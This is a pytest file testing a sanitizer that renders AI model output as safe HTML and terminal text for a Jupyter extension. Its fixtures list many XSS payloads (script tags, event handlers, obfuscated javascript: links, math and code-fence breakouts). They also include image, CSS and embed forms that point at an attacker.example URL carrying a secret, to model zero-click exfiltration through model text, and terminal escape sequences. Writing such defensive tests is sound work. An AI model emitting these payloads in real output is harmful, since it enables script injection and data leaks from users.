"""The security contract of kimi_jupyter.core.sanitize: model text never becomes live HTML or terminal control.

Outputs are checked with an independent parser (stdlib html.parser) against an allowlist
written here, not imported from the module, so widening the module's allowlist fails a test.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from html_check import assert_safe, problems

from kimi_jupyter.core import sanitize
from kimi_jupyter.core.sanitize import escape, fence, inline_code, markdown_block, markdown_html, plain

def test_checker_can_fail() -> None:
    # The checker itself must catch what we claim it catches.
    for markup in [
        "<script>x</script>", '<img src=x onerror="a()">', "<svg onload=a()>", '<p style="x">',
        '<a href="java\tscript:a()">', '<a href="JAVASCRIPT:a()">', '<img src="data:text/html,x">',
        "<!-- c -->", "<![CDATA[x]]>", '<code class="x">', "<iframe>",
    ]:
        assert problems(markup), markup
    assert problems('<a href="https://x/y" rel="noopener">x</a><a href="#f">f</a><a href="rel/x">r</a>') == []


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=x><input></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=x onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#9;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    '[x](https://ok.example "t" onmouseover=alert(1))',
    '[x](https://ok.example "a&quot; onmouseover=&quot;alert(1)")',
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1; ?>",
    "<!DOCTYPE html>",
    "<scr\x00ipt>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    "\\(</span><img src=x onerror=alert(1)>\\)",
    "\\[</div><script>alert(1)</script>\\]",
    '$x$ <div class="kimi-md"></div></div><script>alert(1)</script>',
    "kimimath0000000000000000z @@0@@ $x$",
]
# Multi-line payloads, shown only at top level.
BLOCK_PAYLOADS = [
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 'title'\n\n[y][x]",
    "```\ncode\n```\n<script>alert(1)</script>",
    "```\n````\n<script>alert(1)</script>\n```",
    "~~~\n```\n~~~\n<iframe src=https://evil.example>",
    '```js" onmouseover="alert(1)\nx\n```',
    "$$\n</div>\n\n<script>alert(1)</script>\n$$",
    "$$\na\n\n\n<img src=x onerror=alert(1)>\n$$",
    "para\n\n<script>alert(1)</script>\n\n    <script>indented</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "- item\n\n  <img src=x onerror=alert(1)>\n\n> quote\n>\n> <svg onload=alert(1)>",
]
CONTEXTS = {
    "top": "{}",
    "table": "| a | b |\n|---|:-:|\n| {} | x |",
    "list": "- {}\n- two",
    "ordered": "1. {}",
    "quote": "> {}",
    "heading": "# {}",
    "link_text": "[{}](https://ok.example/)",
    "emphasis": "**{}** and *{}*",
}
CASES = [pytest.param(c.replace("{}", p), id=f"{k}-{i}") for k, c in CONTEXTS.items() for i, p in enumerate(PAYLOADS)]
CASES += [pytest.param(p, id=f"block-{i}") for i, p in enumerate(BLOCK_PAYLOADS)]

_passthrough = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize("text", CASES)
def test_payload_markdown_html(text: str) -> None:
    assert_safe(markdown_html(text))


@pytest.mark.parametrize("text", CASES)
def test_payload_markdown_block(text: str) -> None:
    block = markdown_block(text)
    assert_safe(block)
    assert block.startswith('<div class="kimi-md">') and block.endswith("</div>")
    assert re.search(r"\n[ \t]*\n", block) is None, block
    # What a frontend that passes HTML through markdown does with it: one raw HTML
    # block, nothing parsed as markdown, and still safe.
    tokens = _passthrough.parse(block)
    assert [t.type for t in tokens] == ["html_block"], tokens
    assert_safe(_passthrough.render(block))


@pytest.mark.parametrize("text", CASES[:: len(PAYLOADS) // 8] + [c for c in CASES if "block-" in str(c.id)])
def test_payload_block_in_nbconvert(text: str) -> None:
    """nbconvert's markdown renderer (mistune, HTML passed through) on the block form."""
    mistune_filter = pytest.importorskip("nbconvert.filters.markdown_mistune")
    assert_safe(mistune_filter.markdown2html_mistune(markdown_block(text)))


RAW_HTML = [p for p in PAYLOADS + BLOCK_PAYLOADS if "<" in p] + [
    '<p style="color:red" title="t" lang="en" id="x" class="jp-Dialog">p</p>',
    '<th style="text-align:left" align="javascript:x">h</th><td align="right" onclick="x">d</td>',
    '<a href="https://ok.example" target="_blank" rel="opener" style="x">a</a>',
    '<img src="https://ok.example/a.png" srcset="javascript:x 1x" onload="x" width=1>',
    '<code class="language-py&quot; onclick=&quot;x">c</code><span class="jp-OutputArea">s</span>',
]


@pytest.mark.parametrize("markup", RAW_HTML)
def test_cleaner_alone_holds(markup: str) -> None:
    """Defence in depth: even raw HTML (were markdown-it ever to pass some) comes out clean."""
    assert_safe(sanitize._clean(markup))


def test_cleaner_drops_generic_attributes() -> None:
    assert sanitize._clean(RAW_HTML[-5]) == "<p>p</p>"  # ammonia's defaults allow title/lang anywhere
    cells = '<table><tr><td align="right" style="x">d</td><td align="evil">e</td></tr></table>'
    assert sanitize._clean(cells) == '<table><tbody><tr><td align="right">d</td><td>e</td></tr></tbody></table>'


def test_payloads_stay_visible_as_text() -> None:
    out = markdown_html("<script>alert(1)</script> [x](javascript:alert(1))")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "[x](javascript:alert(1))" in out  # not a link, shown as written


# -- what must still render -----------------------------------------------------------------


def test_markdown_renders() -> None:
    assert "<h1>Heading</h1>" in markdown_html("# Heading")
    assert "<strong>bold</strong>" in markdown_html("**bold**")
    assert "<em>em</em>" in markdown_html("*em*")
    assert "<s>gone</s>" in markdown_html("~~gone~~")
    table = markdown_html("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<table>" in table and '<th align="left">a</th>' in table and '<td align="right">2</td>' in table
    assert "style" not in table
    assert "<li>one</li>" in markdown_html("- one\n- two")
    assert "<blockquote>" in markdown_html("> q")


def test_fenced_code_is_text_with_language_class() -> None:
    out = markdown_html("```python\nif a < b && c:\n    pass\n```")
    assert '<pre><code class="language-python">if a &lt; b &amp;&amp; c:\n    pass\n</code></pre>' in out
    assert "<code>&lt;div&gt;</code>" in markdown_html("use `<div>` here")


def test_links_and_images() -> None:
    out = markdown_html('[site](http://example.com/x "T") <https://example.com> ![pic](https://example.com/a.png)')
    assert '<a href="http://example.com/x" title="T" rel="noopener noreferrer nofollow">site</a>' in out
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">' in out
    # An image is a link to it, its host in the text, never loaded.
    assert '<a href="https://example.com/a.png" rel="noopener noreferrer nofollow">[image: pic — example.com]</a>' in out
    assert "<img" not in out
    assert 'href="mailto:a@example.com"' in markdown_html("<a@example.com>")
    assert 'href="#part"' in markdown_html("[p](#part)")


def test_math_html() -> None:
    assert '<span class="math">$x^2$</span>' in markdown_html("$x^2$")
    assert '<div class="math">$$\\int_0^1 x\\,dx$$</div>' in markdown_html("$$\n\\int_0^1 x\\,dx\n$$")
    assert '<span class="math">$$\\int_0^1 x\\,dx$$</span>' in markdown_html("so $$\\int_0^1 x\\,dx$$ is")
    out = markdown_html("$a_1 * b_1$ and $c_2 * d_2$")
    assert "<em>" not in out and '<span class="math">$a_1 * b_1$</span>' in out
    assert '<span class="math">$x &lt; y$</span>' in markdown_html("$x < y$")
    assert '<span class="math">\\(a_1 * b_1\\)</span>' in markdown_html("\\(a_1 * b_1\\) and *e*")
    assert '<span class="math">\\[x\\]</span>' in markdown_html("\\[x\\]")
    assert "math" not in markdown_html("costs $5 and $10")  # money, not math
    assert "math" not in markdown_html("`$a` and `$b`")


def test_math_is_shown_literally() -> None:
    out = markdown_html("$\\text{<b>x</b> & <img src=x>}$")
    assert '<span class="math">$\\text{&lt;b&gt;x&lt;/b&gt; &amp; &lt;img src=x&gt;}$</span>' in out


def test_math_block_form() -> None:
    out = markdown_block("$x < y$ and $a > b$")
    assert '<span class="math">$x \\lt  y$</span>' in out and '<span class="math">$a \\gt  b$</span>' in out
    matrix = "\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}"
    assert f'<div class="math">$${matrix}$$</div>' in markdown_block(f"$$\n{matrix}\n$$")
    assert f"$${matrix}$$" in markdown_block(f"inline $${matrix}$$ display")
    assert '<span class="math">$a_1 * b_1$</span>' in markdown_block("$a_1 * b_1$")
    multi = markdown_block("$$\na \\\\\n\n\nb\n$$")  # blank lines inside math end the math (TeX forbids them)
    assert "\n\n" not in multi


# A Python model of JupyterLab's markdown math handling (packages/rendermime/src/latex.ts):
# math is cut out of the markdown SOURCE (&, <, > escaped), markdown is rendered, math is put back.
_MATHSPLIT = re.compile(r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|\\\\(?:\(|\)|\[|\]))", re.I)


def jupyterlab_remove_math(text: str) -> tuple[str, list[str]]:
    math: list[str] = []
    detilde = lambda t: t  # noqa: E731
    if "`" in text or "~~~" in text:
        hide = lambda m: m.group(0).replace("$", "~D")  # noqa: E731
        text = text.replace("~", "~T")
        text = re.sub(r"^(?P<f>`{3,}|(~T){3,})[^`\n]*\n([\s\S]*?)^(?P=f)`*$", hide, text, flags=re.M)
        text = re.sub(r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)", hide, text, flags=re.M)
        detilde = lambda t: re.sub(r"~([TD])", lambda m: "~" if m.group(1) == "T" else "$", t)  # noqa: E731
    blocks = _MATHSPLIT.split(text.replace("\r\n", "\n").replace("\r", "\n"))

    def process(i: int, j: int) -> None:
        chunk = "".join(blocks[i : j + 1]).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        blocks[i : j + 1] = [f"@@{len(math)}@@"] + [""] * (j - i)
        math.append(detilde(chunk))

    start = end = last = None
    braces, i = 0, 1
    while i < len(blocks):
        block = blocks[i]
        if block.startswith("@"):
            blocks[i] = f"@@{len(math)}@@"
            math.append(block)
        elif start is not None:
            if block == end:
                if braces:
                    last = i
                else:
                    process(start, i)
                    start = end = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    i = last
                    process(start, i)
                start = end = last = None
                braces = 0
            elif block == "{":
                braces += 1
            elif block == "}" and braces:
                braces -= 1
        elif block in ("$", "$$"):
            start, end, braces = i, block, 0
        elif block in ("\\\\(", "\\\\["):
            start, end, braces = i, "\\\\)" if block.endswith("(") else "\\\\]", 0
        elif block[1:6] == "begin":
            start, end, braces = i, "\\end" + block[6:], 0
        i += 2
    if start is not None and last is not None:
        process(start, last)
    return detilde("".join(blocks)), math


def jupyterlab_markdown(source: str) -> str:
    """Trusted markdown output in JupyterLab: removeMath, marked (here markdown-it, HTML on), replaceMath."""
    text, math = jupyterlab_remove_math(source)
    return re.sub(r"@@(\d+)@@", lambda m: math[int(m.group(1))], _passthrough.render(text))


@pytest.mark.parametrize("text", CASES[:: len(PAYLOADS) // 8] + [c for c in CASES if "block-" in str(c.id)])
def test_payload_block_in_jupyterlab_math_pipeline(text: str) -> None:
    assert_safe(jupyterlab_markdown(markdown_block(text)))


def test_math_survives_jupyterlab_extraction() -> None:
    matrix = "\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}"
    text = f"Let $x < y$ and $a_1 * b_1$, `$code` costs $5.\n\n$$\n{matrix}\n$$\n\n```\n$not math$\n```"
    block = markdown_block(text)
    _, math = jupyterlab_remove_math(block)
    assert math == ["$x \\lt  y$", "$a_1 * b_1$", f"$${matrix.replace('&', '&amp;')}$$"]
    out = jupyterlab_markdown(block)
    assert_safe(out)
    assert '<span class="math">$a_1 * b_1$</span>' in out and "<em>" not in out
    assert "<code>&#36;code</code>" in out and "&#36;not math&#36;" in out


def test_block_only_math_holds_dollars_backslashes_backticks() -> None:
    """JupyterLab finds math in the markdown source: it must pair only our own delimiters."""
    block = markdown_block("`$a` costs $5 and `$b`, \\$ and \\\\ in text; $x^2$ and ```\\(``` \n\n```\n$y$\\\n```")
    outside = re.sub(r'<(span|div) class="math">.*?</\1>', "", block, flags=re.DOTALL)
    assert not set("$\\`") & set(outside), outside
    assert '<span class="math">$x^2$</span>' in block
    assert "<code>&#36;a</code>" in block


def test_block_newlines() -> None:
    block = markdown_block("# T\n\npara one\nline two\n\n```\na\n\n\n  b\n```\n\n- x\n\n- y")
    assert "\n\n" not in block
    assert "<pre><code>a&#10;&#10;&#10;  b&#10;</code></pre>" in block
    assert _passthrough.render(block).count("<pre>") == 1
    # No line of only whitespace, even by JavaScript's wider idea of it (marked uses \s).
    block = markdown_block("a\n\x0c\nb\n\x0b\nc\n\u2028\nd\n\u3000\ne")
    assert not [line for line in block.split("\n") if not line.strip()], block


def test_block_placeholder_cannot_be_forged(monkeypatch: pytest.MonkeyPatch) -> None:
    tokens = iter(["0" * 16, "1" * 16])
    monkeypatch.setattr(sanitize, "_new_token", lambda: "kimimath" + next(tokens))
    text = "kimimath00000000000000000z and $x<y$"  # the first token's placeholder for math #0
    out = markdown_block(text)
    assert "kimimath00000000000000000z and" in out  # left alone: a fresh token was drawn
    assert out.count("$x\\lt y$") == 1


def test_block_compiles_no_pattern_per_call() -> None:
    # A fresh regex per call (from the random token) grew `re`'s cache in a long session
    # and evicted the user's own patterns from it; the placeholder pattern is compiled once.
    import re

    def cached_kimi_patterns() -> int:
        caches = [getattr(re, name, {}) for name in ("_cache", "_cache2")]
        return sum(1 for cache in caches for key in cache if "kimimath" in str(key[1]))

    markdown_block("warm-up $x$")
    before = cached_kimi_patterns()
    outs = [markdown_block(f"cell {i}: $x_{i}$ and $$y^{i}$$") for i in range(40)]
    assert cached_kimi_patterns() == before
    assert "$x_7$" in outs[7] and "$$y^7$$" in outs[7]  # math was still put back


def test_empty_and_plain_text() -> None:
    assert markdown_block("") == '<div class="kimi-md"></div>'
    assert markdown_html("hello") == "<p>hello</p>\n"


# -- fences and code spans --------------------------------------------------------------------

FENCE_TEXTS = [
    "plain",
    "",
    "ends with newline\n",
    "```\n<script>alert(1)</script>\n```",
    "````\nfour\n````",
    "~~~\ntilde\n~~~",
    "x ``` y ```` z",
    "```python\nnested\n```\n\n\nafter blank lines",
    "   ```\nindented fence",
    "`" * 9,
]


@pytest.mark.parametrize("text", FENCE_TEXTS)
@pytest.mark.parametrize("lang", ["", "python", "py`thon x"])
def test_fence_round_trip(text: str, lang: str) -> None:
    tokens = MarkdownIt("commonmark").parse(fence(text, lang))
    assert [t.type for t in tokens] == ["fence"]
    assert tokens[0].content == (text if text.endswith("\n") else text + "\n")
    assert tokens[0].info == re.sub(r"[`\s]", "", lang)


INLINE_TEXTS = ["plain", "a`b", "``", "`starts", "ends`", " both ", "   ", " lead", "<div>", "a\nb\r\nc", "x ``` y", "`"]


@pytest.mark.parametrize("text", INLINE_TEXTS)
def test_inline_code_round_trip(text: str) -> None:
    expected = re.sub(r"\r\n?|\n", " ", text)
    for wrapped, count in ((inline_code(text), 1), (f"see {inline_code(text)} here", 1),
                           (f"*{inline_code(text)}* {inline_code(text)} `x`", 3)):
        children = MarkdownIt("commonmark").parseInline(wrapped)[0].children
        code = [c.content for c in children if c.type == "code_inline"]
        assert code[:2] == [expected] * min(count, 2) and len(code) == count, wrapped
    assert "\n" not in inline_code(text)
    assert inline_code("") == ""


# -- terminal text ----------------------------------------------------------------------------


def test_plain_strips_escapes() -> None:
    assert plain("\x1b[31mred\x1b[0m") == "red"
    assert plain("\x1b]0;title\x07after") == "after"
    assert plain("\x1b]52;c;SGVsbG8=\x07") == ""
    assert plain("\x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert plain("\x9b2J\x9d0;t\x9c ok") == " ok"
    assert plain("\x1bPq#0;2;0;0;0\x1b\\dcs") == "dcs"
    assert plain("\x1b7\x1b(B\x1bcsave") == "save"
    assert plain("bell\x07 back\x08space\x7f") == "bell backspace"
    assert plain("\x1b[2K\x1b[1A\x1b[10;10Hmoved") == "moved"


def test_plain_keeps_text() -> None:
    text = "héllo — 世界 🚀\n\tindented\nlast"
    assert plain(text) == text
    assert plain("a\r\nb\rc") == "a\nb\nc"  # a carriage return cannot overwrite a line
    assert "\x1b" not in plain("\x1b]0;unterminated title") and "title" in plain("\x1b]0;unterminated title")


def test_plain_leaves_no_control_character() -> None:
    every = "".join(chr(c) for c in range(0xA0)) * 2
    left = plain("\x1b[" + every + "\x1b]" + every)
    assert not [c for c in left if ord(c) < 0x20 and c not in "\n\t" or 0x7F <= ord(c) < 0xA0]


def test_escape() -> None:
    assert escape("<a href=\"x\">&'") == "&lt;a href=&quot;x&quot;&gt;&amp;&#x27;"


# -- cost -------------------------------------------------------------------------------------


def test_imports_are_lazy_and_cached() -> None:
    tree = ast.parse(Path(sanitize.__file__).read_text(encoding="utf-8"))
    top = [n for n in tree.body if isinstance(n, (ast.Import, ast.ImportFrom))]
    names = {a.name for n in top for a in n.names} | {n.module for n in top if isinstance(n, ast.ImportFrom)}
    assert not {"nh3", "markdown_it", "mdit_py_plugins", "mdit_py_plugins.dollarmath"} & names
    markdown_html("x")
    assert sanitize.markdown_parser() is sanitize.markdown_parser()


def test_long_answer_renders() -> None:
    part = (
        "## Step\n\nSome *text* with `code`, $a_i^2$ and a [link](https://example.com).\n\n"
        "| x | y |\n|---|---|\n| 1 | $\\sqrt{2}$ |\n\n```python\nfor i in range(3):\n    print(i < 2)\n```\n\n"
        "- item <b>raw</b>\n\n$$\n\\sum_{k=0}^n k\n$$\n\n"
    )
    text = (part * (40_000 // len(part) + 1))[:40_000]
    html_out, block = markdown_html(text), markdown_block(text)
    assert html_out.count("<table>") >= 40 and "\n\n" not in block
    assert_safe(html_out)
    assert_safe(block)
    assert_safe(markdown_block("\\( x " * 8000 + "$" * 4000))  # unclosed openers: linear, still safe


# -- remote images: never fetched, shown as a link naming the host (zero-click leak) --------

LEAK = "https://attacker.example/p.png?d=secret"
# Every way model text could ask a browser to load a URL by itself.
FETCHES = [
    f"![chart]({LEAK})",
    f"![chart](<{LEAK}>)",
    f'![chart]({LEAK} "title")',
    f"![chart][ref]\n\n[ref]: {LEAK}",
    f"![chart][]\n\n[chart]: <{LEAK}> 'title'",
    f"![ref]\n\n[ref]: {LEAK}",
    f"[![chart]({LEAK})](https://ok.example/)",
    f"![outer ![inner]({LEAK})]({LEAK})",
    f"| a |\n|---|\n| ![c]({LEAK}) |",
    f"# ![c]({LEAK})",
    f"- ![c]({LEAK})",
    f"> ![c]({LEAK})",
    f"**![c]({LEAK})**",
    f'<img src="{LEAK}">',
    f'<img srcset="{LEAK} 1x">',
    f'<picture><source srcset="{LEAK}"></picture>',
    f'<video poster="{LEAK}"></video>',
    f'<video src="{LEAK}"></video><audio src="{LEAK}"></audio>',
    f'<svg><image href="{LEAK}"/></svg>',
    f'<svg><image xlink:href="{LEAK}"/></svg>',
    f'<p style="background: url({LEAK})">x</p>',
    f"<style>body {{ background: url({LEAK}) }}</style>",
    f'<link rel="stylesheet" href="{LEAK}">',
    f'<link rel="prefetch" href="{LEAK}">',
    f'<input type="image" src="{LEAK}">',
    f'<object data="{LEAK}"></object><embed src="{LEAK}">',
    f'<iframe src="{LEAK}"></iframe>',
    f'<body background="{LEAK}">',
    f'<table background="{LEAK}"><tr><td background="{LEAK}">x</td></tr></table>',
]


def _loads(markup: str) -> list[str]:
    """Tags or attributes in ``markup`` (stdlib parser) that would make a browser fetch something."""
    from html_check import Collector

    found = Collector()
    found.feed(markup)
    found.close()
    fetching_tags = {"img", "image", "video", "audio", "source", "picture", "track", "link", "input",
                     "object", "embed", "iframe", "frame", "script", "style", "svg", "body", "meta", "base"}
    bad = [f"<{tag}>" for tag, _ in found.starts if tag in fetching_tags]
    for tag, attrs in found.starts:
        for name, value in attrs:
            if name in ("src", "srcset", "poster", "background", "data", "style", "xlink:href") or (
                    name == "href" and tag != "a"):
                bad.append(f"{name}= on <{tag}>")
    return bad


def test_fetch_checker_can_fail() -> None:
    assert _loads(f'<img src="{LEAK}">') and _loads(f'<p style="background: url({LEAK})">x</p>')
    assert _loads(f'<svg><image href="{LEAK}"/></svg>') and not _loads(f'<a href="{LEAK}">x</a>')


@pytest.mark.parametrize("text", FETCHES)
def test_model_text_never_makes_the_browser_fetch(text: str) -> None:
    for out in (markdown_html(text), markdown_block(text), _passthrough.render(markdown_block(text))):
        assert _loads(out) == [], out
        assert_safe(out)


@pytest.mark.parametrize("text", [f for f in FETCHES if f.startswith(("![", "| a", "# ", "- ", "> ", "**"))])
def test_remote_image_is_a_link_naming_its_host(text: str) -> None:
    out = markdown_html(text)
    assert '<a href="https://attacker.example/p.png?d=secret" rel="noopener noreferrer nofollow">[image' in out
    assert "— attacker.example]</a>" in out


def test_image_inside_a_link_names_no_host_the_click_does_not_go_to() -> None:
    out = markdown_html(f"[![chart]({LEAK})](https://ok.example/)")
    assert out == '<p><a href="https://ok.example/" rel="noopener noreferrer nofollow">[image: chart]</a></p>\n'


def test_image_label_shows_the_host_the_browser_would_contact() -> None:
    # userinfo before the last @, percent escapes, default ports, special-scheme slashes
    cases = {
        "https://trusted.example@evil.example/p.png": "evil.example",
        "https://trusted.example%40x@Evil.Example:443/p.png": "evil.example",
        "http://ex%61mple.com:8080/p": "example.com:8080",
        "http:evil.example/p.png": "evil.example",
        "//evil.example/p.png": "evil.example",
        "https://evil.example\\@trusted.example/": "evil.example",
        "http://[::1]:9/p": "[::1]:9",
    }
    for url, host in cases.items():
        assert sanitize.url_host(url) == host, url
        assert sanitize.image_label("x", url) == f"[image: x — {host}]"
    assert sanitize.image_label("", "plots/a.png") == "[image — a local path]"
    assert sanitize.image_label("a\n  b", "data:image/png;base64,AAAA") == "[image: a b — inline data, not shown]"


def test_data_image_in_model_text_is_a_label_not_an_image_nor_a_link() -> None:
    out = markdown_html("![fig](data:image/png;base64,iVBORw0KGgo=)")
    assert out == "<p>[image: fig — inline data, not shown]</p>\n"


def test_markdown_text_keeps_server_text_out_of_markdown_syntax() -> None:
    model = f"kimi ![x]({LEAK}) <b>*x*</b> $y$ [l](https://e.example)"
    line = f"<sub>{sanitize.markdown_text(model)}</sub>"
    rendered = _passthrough.render(line)
    assert _loads(rendered) == [] and "<a " not in rendered and "<em>" not in rendered and "<b>" not in rendered
    assert "kimi ![x](https://attacker.example/p.png?d=secret) &lt;b&gt;*x*&lt;/b&gt; $y$" in rendered
    assert "\n" not in sanitize.markdown_text("a\nb\r\nc")
